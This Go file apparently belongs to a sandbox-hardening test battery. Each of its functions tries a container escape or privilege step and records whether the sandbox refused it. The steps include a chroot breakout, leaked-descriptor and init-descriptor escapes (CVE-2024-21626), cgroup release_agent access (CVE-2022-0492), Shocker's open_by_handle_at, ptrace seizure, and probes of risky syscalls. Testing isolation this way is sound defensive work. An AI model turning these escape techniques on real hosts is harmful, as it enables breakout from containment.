package main

import (
	"bufio"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func init() {
	register(map[string]attack{
		"open-path":      openPathAttack,
		"pid1-fds":       pid1FDsAttack,
		"leaked-fds":     leakedFDsAttack,
		"cwd-escape":     cwdEscapeAttack,
		"chroot-escape":  chrootEscapeAttack,
		"ptrace":         ptraceAttack,
		"host-pids":      hostPIDsAttack,
		"mountinfo-grep": mountinfoGrepAttack,
		"sethostname":    sethostnameAttack,
		"rlimit-raise":   rlimitRaiseAttack,
		"caps":           capsAttack,
		"no-new-privs":   noNewPrivsAttack,
		"syscall":        syscallAttack,
		"mount-cgroup":   mountCgroupAttack,
		"rlimits":        rlimitsAttack,
		"await-mount":    awaitMountAttack,
	})
}

// openPathAttack opens path= as mode= says (w: for writing, dir: as a
// directory to list, r: for reading); that it opens is the hole.
func openPathAttack(a args) Verdict {
	p := a.str("path")
	switch a.str("mode") {
	case "w":
		return opened(p, unix.O_WRONLY, "open for writing", " for writing")
	case "dir":
		ents, err := os.ReadDir(p)
		if err != nil {
			return refused("readdir", err)
		}
		return worked(fmt.Sprintf("listed %s: %d entries", p, len(ents)))
	default:
		return opened(p, unix.O_RDONLY|unix.O_NONBLOCK, "open", "")
	}
}

// pid1FDsAttack opens what the descriptors of the sandbox's init lead
// to, through /proc/1/fd: a host directory among them is the way out of
// CVE-2024-21626.
func pid1FDsAttack(args) Verdict {
	ents, err := os.ReadDir("/proc/1/fd")
	if err != nil {
		return refused("readdir /proc/1/fd", err)
	}
	var last error
	for _, e := range ents {
		p := "/proc/1/fd/" + e.Name()
		fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			last = err
			continue
		}
		unix.Close(fd)
		target, _ := os.Readlink(p)
		return worked("opened the init's descriptor " + p + " -> " + target)
	}
	if last == nil {
		return Verdict{Attempted: true, Detail: "the init holds no descriptors"}
	}
	return refused("open /proc/1/fd/N", last)
}

// leakedFDsAttack looks for descriptors the workload did not open: a
// host directory left open by the embedding program is CVE-2024-21626.
func leakedFDsAttack(args) Verdict {
	dir, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return refused("open /proc/self/fd", err)
	}
	defer unix.Close(dir)
	buf := make([]byte, 4096)
	var leaked []string
	for {
		n, err := unix.Getdents(dir, buf)
		if err != nil {
			return refused("getdents", err)
		}
		if n == 0 {
			break
		}
		_, _, names := unix.ParseDirent(buf[:n], -1, nil)
		for _, name := range names {
			fd, err := strconv.Atoi(name)
			if err != nil || fd <= 2 || fd == dir {
				continue
			}
			target, _ := os.Readlink("/proc/self/fd/" + name)
			leaked = append(leaked, name+"->"+target)
		}
	}
	if len(leaked) > 0 {
		return worked("inherited " + strings.Join(leaked, ", "))
	}
	return Verdict{Attempted: true, Detail: "only 0, 1 and 2"}
}

// cwdEscapeAttack walks up from the working directory by descriptor and
// looks for the host's marker= (a path relative to the host's root): a
// working directory left on the host leads there.
func cwdEscapeAttack(a args) Verdict {
	fd, err := unix.Open(".", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return refused("open .", err)
	}
	for i := 0; i < 64; i++ {
		up, err := unix.Openat(fd, "..", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		unix.Close(fd)
		if err != nil {
			return refused("openat ..", err)
		}
		fd = up
	}
	defer unix.Close(fd)
	cwd, _ := os.Readlink("/proc/self/cwd")
	if err := unix.Faccessat(fd, strings.TrimPrefix(a.str("marker"), "/"), unix.F_OK, 0); err == nil {
		return worked("reached the host's root from the working directory " + cwd)
	}
	return Verdict{Attempted: true, Detail: "working directory " + cwd + " leads to the sandbox's root only"}
}

// chrootEscapeAttack is the classic escape from a chroot: chroot into a
// subdirectory, walk up past it, chroot to where that lands, and look for
// the host's marker=.
func chrootEscapeAttack(a args) Verdict {
	jail := "/tmp/battery-jail"
	if err := os.MkdirAll(jail, 0o755); err != nil {
		return refused("mkdir", err)
	}
	if err := unix.Chroot(jail); err != nil {
		return refused("chroot", err)
	}
	for i := 0; i < 64; i++ {
		unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		return refused("chroot .", err)
	}
	if _, err := os.Lstat(a.str("marker")); err == nil {
		return worked("escaped to the host's root")
	}
	return Verdict{Attempted: true, Detail: "the way out leads to the sandbox's root only"}
}

// ptraceAttack attaches to pid=. It seizes rather than attaches, which
// the kernel permits on the same terms: PTRACE_ATTACH's SIGSTOP, left
// pending when the tracer goes, would stop the sandbox's init for good
// and leave the run to its timeout.
func ptraceAttack(a args) Verdict {
	pid := int(a.int("pid"))
	if err := unix.PtraceSeize(pid); err != nil {
		return refused("PTRACE_SEIZE", err)
	}
	return worked(fmt.Sprintf("attached to pid %d (the tracee is let go when the attacker exits)", pid))
}

// hostPIDsAttack lists the processes it can see: any but the sandbox's
// init and itself belongs to someone else.
func hostPIDsAttack(args) Verdict {
	ents, err := os.ReadDir("/proc")
	if err != nil {
		return refused("readdir /proc", err)
	}
	self := os.Getpid()
	var others []string
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == 1 || pid == self {
			continue
		}
		comm, _ := os.ReadFile("/proc/" + e.Name() + "/comm")
		others = append(others, e.Name()+":"+strings.TrimSpace(string(comm)))
	}
	if len(others) > 0 {
		return worked("sees " + strings.Join(others, " "))
	}
	return Verdict{Attempted: true, Detail: "sees only its init and itself"}
}

// mountinfoGrepAttack looks for marker= among its mounts: the host's
// mounts must not show.
func mountinfoGrepAttack(a args) Verdict {
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return refused("read mountinfo", err)
	}
	for _, l := range strings.Split(string(b), "\n") {
		if strings.Contains(l, a.str("marker")) {
			return worked("sees the host's mount: " + l)
		}
	}
	return Verdict{Attempted: true, Detail: "the host's mount is not there"}
}

// sethostnameAttack sets the hostname to name=; the host checks its own.
func sethostnameAttack(a args) Verdict {
	if err := unix.Sethostname([]byte(a.str("name"))); err != nil {
		return refused("sethostname", err)
	}
	return worked("set the hostname (of its own UTS namespace, the host checks)")
}

// rlimitRaiseAttack raises its hard limit on POSIX message-queue bytes,
// which counts against the host user's allowance (see mqueue).
func rlimitRaiseAttack(args) Verdict {
	var r unix.Rlimit
	if err := unix.Getrlimit(unix.RLIMIT_MSGQUEUE, &r); err != nil {
		return refused("getrlimit", err)
	}
	if r.Max == unix.RLIM_INFINITY {
		return worked("RLIMIT_MSGQUEUE is unlimited already")
	}
	want := unix.Rlimit{Cur: r.Max + 1<<20, Max: r.Max + 1<<20}
	if err := unix.Setrlimit(unix.RLIMIT_MSGQUEUE, &want); err != nil {
		return refused("setrlimit", err)
	}
	return worked(fmt.Sprintf("raised RLIMIT_MSGQUEUE from %d to %d", r.Max, want.Max))
}

func statusFields() (map[string]string, error) {
	f, err := os.Open("/proc/self/status")
	if err != nil {
		return nil, err
	}
	defer f.Close()
	m := map[string]string{}
	s := bufio.NewScanner(f)
	for s.Scan() {
		k, v, _ := strings.Cut(s.Text(), ":")
		m[k] = strings.TrimSpace(v)
	}
	return m, s.Err()
}

// capsAttack reads its capability sets and succeeds if any holds one
// outside allowed= (a hex mask).
func capsAttack(a args) Verdict {
	allowed := uint64(a.int("allowed"))
	st, err := statusFields()
	if err != nil {
		return refused("read status", err)
	}
	var extra []string
	for _, set := range []string{"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"} {
		m, err := strconv.ParseUint(st[set], 16, 64)
		if err != nil {
			return notAttempted(set + ": " + st[set])
		}
		if x := m &^ allowed; x != 0 {
			extra = append(extra, fmt.Sprintf("%s has %#x beyond %#x", set, x, allowed))
		}
	}
	if len(extra) > 0 {
		return worked(strings.Join(extra, "; "))
	}
	return Verdict{Attempted: true, Detail: "CapEff " + st["CapEff"] + ", CapBnd " + st["CapBnd"]}
}

// noNewPrivsAttack succeeds if no_new_privs is off or no seccomp filter
// is loaded: then a setuid binary or an unfiltered call is in reach.
func noNewPrivsAttack(args) Verdict {
	st, err := statusFields()
	if err != nil {
		return refused("read status", err)
	}
	d := fmt.Sprintf("NoNewPrivs %s, Seccomp %s, filters %s", st["NoNewPrivs"], st["Seccomp"], st["Seccomp_filters"])
	if st["NoNewPrivs"] != "1" || st["Seccomp"] != "2" {
		return worked(d)
	}
	return Verdict{Attempted: true, Detail: d}
}

// syscallAttack makes the call name= with arguments the capabilities a
// sandbox holds would allow, so that the seccomp filter is what answers.
func syscallAttack(a args) Verdict {
	name := a.str("name")
	var err error
	switch name {
	case "unshare-userns":
		// The Go runtime is multi-threaded, and unshare(CLONE_NEWUSER)
		// needs a single thread: a child does it before its exec.
		err = runChild(&syscall.SysProcAttr{Unshareflags: unix.CLONE_NEWUSER})
	case "clone-newuser":
		err = runChild(&syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER})
	case "keyctl":
		_, err = unix.KeyctlJoinSessionKeyring("battery")
	case "add_key":
		_, err = unix.AddKey("user", "battery", []byte("x"), unix.KEY_SPEC_PROCESS_KEYRING)
	case "setns":
		// Joining its own user namespace: without the filter the kernel
		// says EINVAL.
		var fd int
		fd, err = unix.Open("/proc/self/ns/user", unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			err = unix.Setns(fd, unix.CLONE_NEWUSER)
			unix.Close(fd)
		}
	case "perf_event_open":
		// Counting its own user-space time: perf_event_paranoid 2 allows
		// it.
		attr := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_TASK_CLOCK,
			Size: uint32(unsafe.Sizeof(unix.PerfEventAttr{})), Bits: unix.PerfBitExcludeKernel | unix.PerfBitExcludeHv}
		var fd int
		fd, err = unix.PerfEventOpen(&attr, 0, -1, -1, unix.PERF_FLAG_FD_CLOEXEC)
		if err == nil {
			unix.Close(fd)
		}
	case "bpf":
		attr := [5]uint32{unix.BPF_MAP_TYPE_ARRAY, 4, 4, 1, 0}
		err = rawCall(unix.SYS_BPF, unix.BPF_MAP_CREATE, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr))
	case "userfaultfd":
		// User-mode-only faults need no privilege since Linux 5.11.
		const uffdUserModeOnly = 1
		err = rawCall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC|uffdUserModeOnly, 0, 0)
	case "io_uring_setup":
		var params [120]byte
		err = rawCall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&params)), 0)
	case "kexec_load":
		err = rawCall(unix.SYS_KEXEC_LOAD, 0, 0, 0)
	case "init_module":
		empty := []byte{0}
		err = rawCall(unix.SYS_INIT_MODULE, 0, 0, uintptr(unsafe.Pointer(&empty[0])))
	case "personality":
		// ADDR_NO_RANDOMIZE turns off ASLR for what it runs next.
		err = rawCall(unix.SYS_PERSONALITY, 0x0040000, 0, 0)
		if err == nil {
			rawCall(unix.SYS_PERSONALITY, 0, 0, 0)
		}
	case "mount":
		os.MkdirAll("/tmp/battery-mnt", 0o755)
		err = unix.Mount("none", "/tmp/battery-mnt", "tmpfs", 0, "size=64k")
		if err == nil {
			unix.Unmount("/tmp/battery-mnt", unix.MNT_DETACH)
		}
	case "pivot_root":
		err = unix.PivotRoot(".", ".")
	case "open_by_handle_at":
		// Shocker: open a file by a handle made up for the root inode of
		// an ext4 filesystem.
		var fd int
		fd, err = unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err == nil {
			h := unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
			var f int
			f, err = unix.OpenByHandleAt(fd, h, unix.O_RDONLY)
			if err == nil {
				unix.Close(f)
			}
			unix.Close(fd)
		}
	case "syslog":
		buf := make([]byte, 4096)
		_, err = unix.Klogctl(unix.SYSLOG_ACTION_READ_ALL, buf)
	default:
		fatalf("unknown call %q", name)
	}
	if err != nil {
		return refused(name, err)
	}
	return worked(name + " succeeded")
}

func rawCall(nr, a1, a2, a3 uintptr) error {
	r, _, e := unix.Syscall(nr, a1, a2, a3)
	if e != 0 {
		return e
	}
	if nr != unix.SYS_PERSONALITY && nr != unix.SYS_KEXEC_LOAD && nr != unix.SYS_INIT_MODULE {
		unix.Close(int(r))
	}
	return nil
}

// runChild runs the attacker's noop case with attr: the way a
// multi-threaded program makes a single-threaded process do what it
// cannot.
func runChild(attr *syscall.SysProcAttr) error {
	cmd := exec.Command("/proc/self/exe", "noop")
	cmd.SysProcAttr = attr
	err := cmd.Run()
	var errno syscall.Errno
	if errors.As(err, &errno) {
		return errno
	}
	return err
}

// mountCgroupAttack tries what CVE-2022-0492 starts from: a cgroup v1
// hierarchy mounted inside, whose release_agent the kernel runs as host
// root, and a release_agent already in reach; then cgroup2.
func mountCgroupAttack(args) Verdict {
	dir := "/tmp/battery-cg"
	os.MkdirAll(dir, 0o755)
	for _, c := range []struct{ fstype, data string }{{"cgroup", "rdma"}, {"cgroup", "memory"}, {"cgroup2", ""}} {
		if err := unix.Mount("cgroup", dir, c.fstype, 0, c.data); err == nil {
			unix.Unmount(dir, unix.MNT_DETACH)
			return worked("mounted " + c.fstype + " " + c.data)
		}
	}
	var found string
	for _, p := range []string{"/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/rdma/release_agent", "/sys/fs/cgroup/memory/release_agent"} {
		if fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
			unix.Close(fd)
			return worked("opened " + p + " for writing")
		} else if _, serr := os.Stat(p); serr == nil {
			found = p + ": " + err.Error()
		}
	}
	if err := unix.Mkdir("/sys/fs/cgroup/battery", 0o755); err == nil {
		unix.Rmdir("/sys/fs/cgroup/battery")
		return worked("made a cgroup under /sys/fs/cgroup")
	}
	err := unix.Mount("cgroup", dir, "cgroup", 0, "rdma")
	v := refused("mount cgroup", err)
	if found != "" {
		v.Detail += "; " + found
	}
	return v
}

// rlimitsAttack reads its limits and succeeds if one is above what its
// preset sets (core=, nofile=, fsize=; -1 means no bound is asked).
func rlimitsAttack(a args) Verdict {
	var over []string
	for _, r := range []struct {
		key string
		res int
	}{{"core", unix.RLIMIT_CORE}, {"nofile", unix.RLIMIT_NOFILE}, {"fsize", unix.RLIMIT_FSIZE}} {
		want := a.int(r.key)
		if want < 0 {
			continue
		}
		var got unix.Rlimit
		if err := unix.Getrlimit(r.res, &got); err != nil {
			return refused("getrlimit", err)
		}
		if got.Max > uint64(want) || got.Cur > uint64(want) {
			over = append(over, fmt.Sprintf("%s is %d/%d, above %d", r.key, got.Cur, got.Max, want))
		}
	}
	if len(over) > 0 {
		return worked(strings.Join(over, "; "))
	}
	return Verdict{Attempted: true, Detail: "every limit within its preset's"}
}

// awaitMountAttack waits for the host to say (the file ready= appearing
// in a volume) that it has mounted something under the volume's source,
// and then looks for it (marker= in its mounts, or the file seen= under
// the volume): with private propagation nothing the host mounts later
// shows inside.
func awaitMountAttack(a args) Verdict {
	for i := 0; ; i++ {
		if _, err := os.Stat(a.str("ready")); err == nil {
			break
		}
		if i == 3000 {
			return notAttempted("the host never said it had mounted")
		}
		time.Sleep(10 * time.Millisecond)
	}
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return refused("read mountinfo", err)
	}
	if strings.Contains(string(b), a.str("marker")) {
		return worked("the host's new mount propagated into the sandbox")
	}
	if _, err := os.Stat(a.str("seen")); err == nil {
		return worked("the host's new mount shows under the volume")
	}
	return Verdict{Attempted: true, Detail: "the host's later mount does not show"}
}
